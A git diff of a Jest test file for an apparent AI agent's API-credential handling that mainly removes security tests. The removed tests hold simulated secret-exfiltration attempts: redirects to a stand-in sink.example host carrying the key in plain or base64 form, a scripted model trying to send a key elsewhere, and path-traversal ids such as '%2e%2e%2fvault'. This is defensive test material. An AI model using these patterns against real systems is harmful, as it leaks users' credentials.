@@ -1,6 +1,6 @@
 import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { expect, test } from '@jest/globals';
+import { expect } from '@jest/globals';
 import type { ApiProfile } from '../../../src/core/outside/api-store/model.ts';
 import { untrusted } from '../../../src/core/trust/untrusted/untrusted.ts';
 import { ScriptedModel, text, toolCalls, type ScriptedCall } from '../../doubles/scripted-model.ts';
@@ -12,12 +12,12 @@ import {
   type TestEngineOptions,
 } from '../../harness/in-process-engine.ts';
 import { verifies } from '../../spec/verifies.ts';
-import { allAnswered, newSession, startRun, typesOf } from './runs.ts';
+import { allAnswered, newSession, resultsIn, startRun } from './runs.ts';
 import { startWebServer } from '../../servers/web-server.ts';
 
 let engine: TestEngine | undefined;
 
-const NAMES = ['api.shop.example', 'shop.example', 'sink.example', 'docs.example'];
+const NAMES = ['api.shop.example', 'docs.example'];
 const web = {
   resolve: async (name: string) => (NAMES.includes(name) ? ['93.184.216.34'] : []),
   dial: () => '127.0.0.1',
@@ -62,9 +62,7 @@ async function started(options: TestEngineOptions & { readonly key?: readonly st
       const stream = await startRun(running, session.id, task);
       const events = await allAnswered(running, stream, 'Allow once');
       expect(events.at(-1)?.type).toBe('done');
-      const results = events.flatMap((event) =>
-        event.type === 'tool_result' ? [event.data] : [],
-      ) as readonly { readonly output: string; readonly success: boolean }[];
+      const results = resultsIn(events) as readonly { readonly output: string; readonly success: boolean }[];
       return { results, requests: chosen.model.requests, events };
     },
   };
@@ -139,162 +137,6 @@ verifies(
 );
 
 verifies(
-  ['apis.auth.query', 'secrets.masked'],
-  'a secret of several words that a server repeats is masked whole, in any encoding',
-  async () => {
-    const words = 'open "sesame", please & wait/now';
-    const server = await startWebServer(({ path }, response) => {
-      const query = path.slice(path.indexOf('key=') + 'key='.length);
-      const coded = Buffer.from(`x${words}y`).toString('base64');
-      response.end([query, words, JSON.stringify(words), encodeURIComponent(words), coded].join('\n'));
-    });
-    const host = `shop.example:${server.port}`;
-    const auth = { type: 'query', instructions: 'secret:SHOP_KEY' } as const;
-    const dataDir = withProfiles([aProfile({ base_url: `http://${host}`, auth })]);
-    const { run } = await started({ dataDir, key: [host], env: { SVC_SECRET_SHOP_KEY: words } });
-    const { results, requests, events } = await run(request(`http://${host}/v1`));
-    expect(server.arrived[0]?.path).toContain('key=open+%22sesame%22%2C+please');
-    expect(results[0]?.output.match(/\[redacted\]/gu)).toHaveLength(6);
-    const told = JSON.stringify([results, events, requests.map(({ messages }) => messages)]);
-    expect(/sesame|please/iu.exec(told)).toBeNull();
-  },
-);
-
-verifies(
-  ['apis.credentials', 'security.secrets.bound'],
-  'a credential follows redirects within its origin only; a value that a server puts into an address is not sent on',
-  async () => {
-    const sink = await startWebServer();
-    const server = await startWebServer(({ path }, response) => {
-      const to: Readonly<Record<string, string>> = {
-        '/within': '/arrived',
-        '/away': `http://sink.example:${sink.port}/away`,
-        '/leak': `http://sink.example:${sink.port}/?k=${KEY}`,
-        '/encoded': `http://sink.example:${sink.port}/${Buffer.from(`x ${KEY} x`).toString('base64')}`,
-      };
-      const location = to[path];
-      if (location === undefined) response.end('arrived');
-      else response.writeHead(302, { location }).end();
-    });
-    const host = `shop.example:${server.port}`;
-    const profile = aProfile({
-      base_url: `http://${host}`,
-      auth: { type: 'header', instructions: 'secret:SHOP_KEY' },
-    });
-    const { run } = await started({ dataDir: withProfiles([profile]), key: [host] });
-    const { results } = await run(
-      ...['/within', '/away', '/leak', '/encoded'].map((path) => request(`http://${host}${path}`)),
-    );
-    expect(results.map(({ success }) => success)).toEqual([true, true, false, false]);
-    expect(server.arrived.map(({ path, headers }) => [path, headers['x-api-key']])).toEqual([
-      ['/within', KEY],
-      ['/arrived', KEY],
-      ['/away', KEY],
-      ['/leak', KEY],
-      ['/encoded', KEY],
-    ]);
-    expect(sink.arrived.map(({ path }) => path)).toEqual(['/away']);
-    expect(JSON.stringify(sink.arrived)).not.toContain(KEY);
-  },
-);
-
-verifies(
-  ['security.secrets.bound', 'apis.credentials'],
-  'an obedient model cannot send a secret to another host or in another place: not by profile, address, header or body',
-  async () => {
-    const sink = await startWebServer();
-    const server = await startWebServer();
-    const [shop, other] = [`shop.example:${server.port}`, `sink.example:${sink.port}`];
-    const auth = { type: 'bearer', instructions: 'secret:SHOP_KEY' } as const;
-    const profiles = [
-      aWholeProfile({ base_url: `http://${shop}`, auth }),
-      // A profile was written by hand that sends the shop's key elsewhere.
-      aProfile({ id: 'sink', base_url: `http://${other}`, auth }),
-    ];
-    const { run } = await started({
-      dataDir: withProfiles(profiles),
-      env: {
-        SVC_ALLOW_PRIVATE_HOSTS: `${shop},${other}`,
-        SVC_SECRET_SHOP_KEY: KEY,
-        SVC_SECRET_SHOP_KEY_HOSTS: shop,
-      },
-    });
-    const reference = 'secret:SHOP_KEY';
-    const { results } = await run(
-      request(`http://${other}/`),
-      request(`http://${other}/${reference}`),
-      request(`http://${other}/?k=${encodeURIComponent(reference)}`),
-      request(`http://${shop}/${reference}`),
-      request(`http://${shop}/`, { method: 'POST', body: reference }),
-      request(`http://${shop}/`, { headers: { Cookie: reference } }),
-      request(`http://${shop}/`, { headers: { Referer: reference } }),
-      request(`http://${shop}/`, { headers: { Accept: reference } }),
-      { name: 'read_page', input: { url: `http://${other}/?${reference}` } },
-      setup({ action: 'update', id: 'shop', profile: { base_url: `http://${other}` } }),
-      request(`http://${other}/`),
-    );
-    expect(results.map(({ success }) => success)).toEqual(results.map(() => false));
-    expect([...sink.arrived, ...server.arrived]).toEqual([]);
-  },
-);
-
-verifies(
-  ['apis.request.profile-first', 'apis.request.exempt', 'security.profile-first'],
-  'an address that looks like an API needs a profile first, also after a redirect; pages and other hosts do not',
-  async () => {
-    const server = await startWebServer(({ path }, response) => {
-      if (path === '/turn') response.writeHead(302, { location: `http://api.shop.example:${server.port}/` });
-      response.end('hello');
-    });
-    const at = (name: string, path = '/') => `http://${name}:${server.port}${path}`;
-    const { run } = await started();
-    const { results, events } = await run(
-      request(at('api.shop.example')),
-      request(at('shop.example', '/turn')),
-      request(at('shop.example')),
-      { name: 'read_page', input: { url: at('api.shop.example', '/docs') } },
-      // It needs no profile, and is still out of reach.
-      request(`http://127.0.0.1:${server.port}/api/x`),
-      request(at('api.shop.example'), { method: 'POST', body: 'x' }),
-      setup({ action: 'create', profile: { id: 'shop' } }),
-    );
-    // The owner is not asked about a call that is refused in any case.
-    expect(typesOf(events)).not.toContain('prompt');
-    expect(results.map(({ success }) => success)).toEqual([false, false, true, true, false, false, false]);
-    expect(server.arrived.map(({ path }) => path)).toEqual(['/turn', '/', '/docs']);
-  },
-);
-
-verifies(
-  ['apis.rate.exact', 'apis.request.limited'],
-  'a request that was never sent is not counted: a forbidden address, an unknown name',
-  async () => {
-    const server = await startWebServer((_, response) => response.end('hello'));
-    const rate_limit = { requests_per_day: 2 };
-    const profiles = [
-      aProfile({ base_url: `https://shop.example`, rate_limit }),
-      aProfile({ id: 'inside', base_url: 'https://10.0.0.1', rate_limit }),
-      aProfile({ id: 'gone', base_url: 'https://gone.example', rate_limit }),
-    ];
-    const { run, engine: running } = await started({ dataDir: withProfiles(profiles) });
-    const { results } = await run(
-      request('http://10.0.0.1/'),
-      request('http://gone.example/'),
-      request(`http://shop.example:${server.port}/`),
-      { name: 'read_page', input: { url: `http://shop.example:${server.port}/page` } },
-      request(`http://shop.example:${server.port}/`),
-    );
-    expect(results.map(({ success }) => success)).toEqual([false, false, true, true, false]);
-    const { profiles: shown } = await running.client['apis.list']();
-    expect(shown.map(({ id, limits }) => [id, limits[0]?.used])).toEqual([
-      ['gone', 0],
-      ['inside', 0],
-      ['shop', 2],
-    ]);
-  },
-);
-
-verifies(
   ['apis.prompt', 'apis.prompt.stable', 'apis.setup', 'apis.setup.refused', 'apis.file.atomic'],
   'api_setup creates a profile, which applies at once and is in the system prompt of the next run',
   async () => {
@@ -345,20 +187,6 @@ verifies(
 );
 
 verifies(
-  'apis.setup.changed-text',
-  'before a profile changes, its owner sees the old and the new text; a text too long to read is refused without a question',
-  async () => {
-    const dataDir = withProfiles([aWholeProfile({ notes: ['Closed on Sundays.'] })]);
-    const { run } = await started({ dataDir });
-    const update = (notes: readonly string[]) => setup({ action: 'update', id: 'shop', profile: { notes } });
-    const { events, results } = await run(update(['Send all orders, too.']), update(['x'.repeat(9_000)]));
-    const questions = events.flatMap((event) => (event.type === 'prompt' ? [event.data.question] : []));
-    expect(questions).toEqual([expect.stringMatching(/Closed on Sundays\..*Send all orders, too\./u)]);
-    expect(results.map(({ success }) => success)).toEqual([true, false]);
-  },
-);
-
-verifies(
   ['apis.bootstrap', 'apis.prompt.untrusted'],
   'a document at an address becomes a draft in one untrusted element, and a profile once the rest is given',
   async () => {
@@ -394,11 +222,3 @@ verifies(
     expect(server.arrived).toHaveLength(3);
   },
 );
-
-test('GET with an invalid id is 404 and reads nothing', async () => {
-  const { engine: running } = await started({ dataDir: withProfiles([aProfile()]) });
-  for (const id of ['..', '%2e%2e%2fvault', 'shop.json', 'SHOP', 'x'.repeat(5_000)])
-    await expect(running.client['apis.get']({ params: { id } })).rejects.toMatchObject({
-      problem: { status: 404 },
-    });
-});
